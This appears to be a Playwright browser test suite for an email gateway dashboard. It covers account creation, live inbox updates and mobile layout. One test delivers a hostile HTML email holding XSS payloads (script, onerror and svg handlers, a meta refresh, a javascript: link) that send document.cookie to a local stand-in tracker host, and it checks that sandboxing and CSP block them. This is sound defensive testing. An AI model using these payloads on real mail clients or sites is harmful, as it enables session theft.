// Accounts and the inbox viewer in real Chromium: an agent account created through the form
// (domain picked from the list, the app-password rules ticking off as the member types); mail
// delivered over SMTP appearing in the open inbox without a reload (SSE → fragment); a hostile
// HTML message whose scripts never run, whose tracker is not fetched until asked, and which
// cannot read the dashboard's cookie. Screenshots of the pages, also at phone width.
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { member } from '../helpers/web.js';
import {
  BROWSER_TEST_TIMEOUT,
  deliver,
  eventually,
  horizontalOverflow,
  openPerson,
  pathOf,
  screenshot,
  signIn,
  startGateway,
  clickThrough,
  trackerServer,
  useBrowser,
} from './helpers.js';

const browser = useBrowser();

const APP_PASSWORD = 'Agent7-Password-2024x';

const plainMessage = (subject: string, to: string) =>
  [
    'From: Bob Sender <bob@sender.example>',
    `To: <${to}>`,
    `Subject: ${subject}`,
    'Date: Mon, 02 Mar 2020 10:00:00 +0000',
    `Message-ID: <${subject.replace(/\W/g, '')}@sender.example>`,
    '',
    'Hello, plain words here.',
    '',
  ].join('\r\n');

/** Which of the password rules under a field show as met, by rule name. */
const rulesState = (page: Page): Promise<Record<string, string>> =>
  page
    .getByRole('list', { name: 'App password rules' })
    .getByRole('listitem')
    .evaluateAll((items) =>
      Object.fromEntries(
        items.map((li) => {
          const item = li as unknown as { dataset: { rule: string }; className: string };
          return [item.dataset.rule, item.className];
        }),
      ),
    );

describe('browser: accounts and the inbox', () => {
  it('creates an account through the form, and mail delivered over SMTP appears in its open inbox without a reload', { timeout: BROWSER_TEST_TIMEOUT }, async () => {
    const g = await startGateway();
    await g.gateway.services.domains.add('other.example.com');
    await member(g, 'admin@example.com');
    const { page, errors } = await openPerson(browser(), g);
    await signIn(page, 'admin@example.com');

    await clickThrough(page, page.getByRole('link', { name: g.gateway.services.defaultApplication.name, exact: true }));
    expect(pathOf(page)).toBe(`/dashboard/apps/${g.appId}/accounts`);
    await clickThrough(page, page.getByRole('link', { name: 'New account' }));
    await page.getByLabel('Alias').fill('agent-7');
    await page.getByLabel('Domain').selectOption('agents.example.com');
    await page.getByLabel('Display name').fill('Agent Seven');
    const password = page.getByLabel('App password', { exact: true });
    // The rules tick off as the member types (app.js), the same rules the server checks.
    await password.fill('abc');
    expect(await rulesState(page)).toEqual({ length_app: 'unmet', printable: 'met', upper: 'unmet', lower: 'met', digit: 'unmet' });
    await password.fill('abc def');
    expect((await rulesState(page)).printable).toBe('unmet');
    await password.fill(APP_PASSWORD);
    expect(await rulesState(page)).toEqual({ length_app: 'met', printable: 'met', upper: 'met', lower: 'met', digit: 'met' });
    await screenshot(page, 'account-new');
    await clickThrough(page, page.getByRole('button', { name: 'Create account' }));

    const account = g.gateway.services.store.directory.findAccountByEmail('agent-7@agents.example.com');
    expect(account).toBeDefined();
    expect(pathOf(page)).toBe(`/dashboard/apps/${g.appId}/accounts/${account!.id}`);
    await expect(page.getByRole('status').first().textContent()).resolves.toBe('Account agent-7@agents.example.com created.');
    await expect(page.getByRole('heading', { level: 1 }).textContent()).resolves.toBe('agent-7@agents.example.com');
    const setup = page.getByRole('region', { name: 'Client setup' });
    await expect(setup.getByRole('table').textContent()).resolves.toMatch(/IMAP \(incoming\)[\s\S]*mail\.wicket\.test/);
    await expect(setup.getByRole('link', { name: /mobileconfig/ }).isVisible()).resolves.toBe(true);
    await screenshot(page, 'account-detail');

    await clickThrough(page, page.getByRole('link', { name: '← Accounts' }));
    const row = page.getByRole('row').filter({ hasText: 'agent-7@agents.example.com' });
    await expect(row.textContent()).resolves.toMatch(/Agent Seven[\s\S]*set/);
    await screenshot(page, 'accounts');
    await clickThrough(page, row.getByRole('link', { name: 'agent-7@agents.example.com', exact: true }));
    expect(pathOf(page)).toBe(`/dashboard/apps/${g.appId}/accounts/${account!.id}`);

    // The inbox: the page opens its change stream; only once the server answered it (and so
    // subscribed to the change bus) is the mail sent, or the change could come before it.
    const streamOpen = page.waitForResponse((r) => new URL(r.url()).pathname.endsWith('/mail/events'));
    await clickThrough(page, page.getByRole('link', { name: 'Open the inbox' }));
    expect(pathOf(page)).toBe(`/dashboard/apps/${g.appId}/accounts/${account!.id}/mail`);
    await expect(page.getByText('No messages in this folder.').isVisible()).resolves.toBe(true);
    expect((await streamOpen).status()).toBe(200);
    const navigations: string[] = [];
    page.on('framenavigated', (frame) => {
      if (frame === page.mainFrame()) navigations.push(frame.url());
    });
    await page.evaluate('window.__marker = 1');

    await deliver(g, account!.email, plainMessage('Live delivery one', account!.email));
    const link = page.getByRole('link', { name: 'Live delivery one' });
    await link.waitFor({ state: 'visible', timeout: 15_000 });
    // Same document: no navigation happened, the marker set before is still there.
    await expect(page.evaluate('window.__marker')).resolves.toBe(1);
    expect(navigations).toEqual([]);
    await expect(page.getByRole('row').filter({ hasText: 'Live delivery one' }).textContent()).resolves.toMatch(/Unread[\s\S]*Bob Sender/);
    await expect(page.getByRole('navigation', { name: 'Folders' }).getByRole('link', { name: /INBOX/ }).textContent()).resolves.toBe('INBOX 1 unread');
    // And again: the region keeps listening after it was replaced.
    await deliver(g, account!.email, plainMessage('Live delivery two', account!.email));
    await page.getByRole('link', { name: 'Live delivery two' }).waitFor({ state: 'visible', timeout: 15_000 });
    await expect(page.evaluate('window.__marker')).resolves.toBe(1);
    expect(navigations).toEqual([]);
    await screenshot(page, 'inbox');

    await page.setViewportSize({ width: 390, height: 844 });
    expect(await horizontalOverflow(page)).toBeLessThanOrEqual(0);
    await screenshot(page, 'inbox-phone');

    await page.setViewportSize({ width: 1280, height: 900 });
    await clickThrough(page, link);
    await expect(page.getByRole('heading', { level: 1 }).textContent()).resolves.toBe('Live delivery one');
    await expect(page.locator('pre.message-text').textContent()).resolves.toBe('Hello, plain words here.');
    await screenshot(page, 'message-text');
    expect(errors).toEqual([]);
  });

  it('shows the pages at phone width without sideways scrolling, and a form error next to its field', { timeout: BROWSER_TEST_TIMEOUT }, async () => {
    const g = await startGateway();
    await member(g, 'admin@example.com');
    for (const local of ['support', 'billing', 'a-rather-long-agent-alias-for-wrapping']) await g.account(local, { name: `${local} agent` });
    const { page, errors } = await openPerson(browser(), g);
    await signIn(page, 'admin@example.com');

    // A policy whose value the server refuses: its message next to the field.
    await page.goto(`/dashboard/apps/${g.appId}/policies`);
    await clickThrough(page, page.getByRole('link', { name: 'New policy' }));
    await page.getByLabel('Name', { exact: true }).fill('Strict');
    await page.getByLabel('Spam sensitivity').fill('99');
    await clickThrough(page, page.getByRole('button', { name: 'Create policy' }));
    const sensitivity = page.getByLabel('Spam sensitivity');
    await expect(sensitivity.getAttribute('aria-invalid')).resolves.toBe('true');
    const describedBy = (await sensitivity.getAttribute('aria-describedby'))?.split(' ') ?? [];
    const errorId = describedBy.find((id) => id.endsWith('-error'));
    expect(errorId).toBeDefined();
    await expect(page.locator(`[id="${errorId}"]`).textContent()).resolves.toMatch(/\S/);
    await expect(sensitivity.inputValue()).resolves.toBe('99');
    await expect(page.getByRole('alert').textContent()).resolves.toMatch(/correct the fields/);
    await screenshot(page, 'policy-form-error');

    await page.goto('/dashboard/domains');
    await clickThrough(page, page.getByRole('link', { name: 'agents.example.com' }).first());
    await screenshot(page, 'domain-detail');

    await page.setViewportSize({ width: 390, height: 844 });
    for (const [name, path] of [
      ['accounts-phone', `/dashboard/apps/${g.appId}/accounts`],
      ['applications-phone', '/dashboard'],
      ['team-phone', '/dashboard/team'],
      ['domain-detail-phone', pathOf(page)],
    ] as const) {
      await page.goto(path);
      expect(await horizontalOverflow(page), name).toBeLessThanOrEqual(0);
      await screenshot(page, name);
    }
    expect(errors).toEqual([]);
  });

  it('opens a hostile HTML message: no script runs, nothing remote loads until asked, the cookie stays out of reach', { timeout: BROWSER_TEST_TIMEOUT }, async () => {
    const g = await startGateway();
    await member(g, 'admin@example.com');
    const alice = await g.account('alice');
    const tracker = await trackerServer();
    const origin = `http://127.0.0.1:${tracker.port}`;
    const hostileHtml = `<html><head><title>Hostile</title><meta http-equiv="refresh" content="0;url=${origin}/refresh"></head><body>
<p id="words">Rich words</p>
<script>window.__pwned = 'script'; parent.__pwned = 'script'; parent.document.title = 'pwned'; new Image().src = '${origin}/exfil?c=' + encodeURIComponent(document.cookie);</script>
<img src="x" onerror="window.__pwned = 'onerror'; parent.document.title = 'pwned'; new Image().src = '${origin}/onerror?c=' + document.cookie">
<svg onload="window.__pwned = 'svg'"></svg>
<img src="${origin}/tracker.png" alt="tracker">
<a id="top" href="${origin}/top" target="_top">open</a>
<a href="javascript:parent.__pwned = 'link'">click</a>
</body></html>`;
    const raw = [
      'From: Mallory <mallory@sender.example>',
      `To: <${alice.email}>`,
      'Subject: Hostile',
      'Date: Mon, 02 Mar 2020 10:00:00 +0000',
      'Message-ID: <hostile@sender.example>',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      hostileHtml,
      '',
    ].join('\r\n');
    await deliver(g, alice.email, raw);

    const { page, context, errors, console: messages } = await openPerson(browser(), g);
    await signIn(page, 'admin@example.com');
    await page.goto(`/dashboard/apps/${g.appId}/accounts/${alice.id}/mail`);
    await clickThrough(page, page.getByRole('link', { name: 'Hostile' }));

    const iframe = page.locator('iframe.message-html');
    await expect(iframe.getAttribute('sandbox')).resolves.toBe('');
    const frameOf = async () => {
      const frame = await (await iframe.elementHandle())!.contentFrame();
      await frame!.waitForLoadState('load');
      return frame!;
    };

    /** Everything a script of the message could have changed, read from the outside. */
    const untouched = async (title: string) => {
      const frame = await frameOf();
      // The message's text is there (the frame did render) …
      await expect(frame.locator('#words').textContent()).resolves.toBe('Rich words');
      // … but none of its scripts ran, neither in the frame nor in the dashboard.
      await expect(frame.evaluate('typeof window.__pwned')).resolves.toBe('undefined');
      await expect(page.evaluate('typeof window.__pwned')).resolves.toBe('undefined');
      await expect(page.title()).resolves.toBe(title);
      await expect(page.getByRole('heading', { level: 1 }).textContent()).resolves.toBe('Hostile');
      // The frame's origin is opaque: it has no access to any cookie at all.
      await expect(frame.evaluate('(() => { try { return document.cookie; } catch (e) { return e.name; } })()')).resolves.toBe('SecurityError');
      // A link aimed at the dashboard's window goes nowhere (no allow-top-navigation).
      const refusals = () => messages.filter((m) => /Unsafe attempt to initiate navigation[\s\S]*sandboxed/.test(m)).length;
      const before = refusals();
      await frame.locator('#top').click();
      expect(await eventually(() => refusals() > before, 5_000), messages.join('\n')).toBe(true);
      expect(pathOf(page)).toMatch(/\/mail\/[0-9a-f]{16}$/);
      return frame;
    };

    await untouched('Hostile · Wicket');
    // The remote image was refused by the frame's CSP (Chromium says so), not fetched.
    expect(await eventually(() => messages.some((m) => /image '[^']*\/tracker\.png' violates the following Content Security Policy directive/.test(m)), 5_000), messages.join('\n')).toBe(true);
    expect(tracker.hits).toEqual([]);
    await screenshot(page, 'message-view');

    // The session cookie is HttpOnly: the dashboard's own scripts cannot read it either.
    const session = (await context.cookies()).find((c) => c.name === 'wicket_session');
    expect(session?.httpOnly).toBe(true);
    await expect(page.evaluate<string>('document.cookie')).resolves.not.toContain('wicket_session');

    // Without the server's stripping (defence in depth), the sandbox and the CSP alone hold:
    // the frame's document is served as the message has it, scripts and handlers included.
    messages.length = 0;
    const policies: string[] = [];
    await page.route(/\/html(\?.*)?$/, async (route) => {
      const response = await route.fetch();
      policies.push(response.headers()['content-security-policy'] ?? '');
      await route.fulfill({ response, body: hostileHtml });
    });
    await page.reload();
    expect(policies).toEqual([expect.stringMatching(/^default-src 'none'; .*img-src data: cid:; .*; sandbox$/)]);
    const unstripped = await untouched('Hostile · Wicket');
    await expect(unstripped.content()).resolves.toContain('<script>');
    expect(await eventually(() => messages.some((m) => /Blocked script execution/.test(m)), 5_000), messages.join('\n')).toBe(true);
    // The meta refresh (due at once) did not take the frame to the sender's server either.
    await new Promise((r) => setTimeout(r, 1_000));
    expect(tracker.hits).toEqual([]);
    await page.unroute(/\/html(\?.*)?$/);
    await page.reload();

    // Asked for: now the remote image loads (and only the image: no script, no exfiltration).
    await clickThrough(page, page.getByRole('link', { name: 'Load remote content' }));
    expect(new URL(page.url()).searchParams.get('remote')).toBe('1');
    await untouched('Hostile · Wicket');
    expect(await eventually(() => tracker.hits.includes('/tracker.png'))).toBe(true);
    await screenshot(page, 'message-view-remote');
    expect(tracker.hits.filter((h) => h !== '/tracker.png')).toEqual([]);
    expect(errors).toEqual([]);
  });
});
